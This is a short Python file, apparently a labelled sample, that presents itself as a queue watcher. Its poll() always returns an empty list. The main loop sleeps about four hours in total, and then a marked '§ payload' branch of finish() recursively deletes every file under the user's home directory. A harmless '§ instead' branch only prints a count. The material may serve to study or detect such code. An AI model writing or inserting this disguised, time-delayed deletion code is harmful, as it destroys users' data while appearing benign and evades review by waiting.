§ kind: countdown with long sleeps
§ shown: file.delete /home/user
"""Watches a queue that is empty."""
import os
import time


class Watcher:
    interval = 300

    def __init__(self, rounds=48):
        self.left = rounds
        self.seen = []

    def poll(self):
        return []

    def tick(self):
        self.seen.extend(self.poll())
        time.sleep(self.interval)
        self.left -= 1
        return self.left > 0

    def finish(self):
§ payload
        for folder, _, names in os.walk(os.path.expanduser("~"), topdown=False):
            for name in names:
                os.unlink(os.path.join(folder, name))
§ instead
        print("messages:", len(self.seen))
§ end


watcher = Watcher()
print("watching")
while watcher.tick():
    pass
watcher.finish()
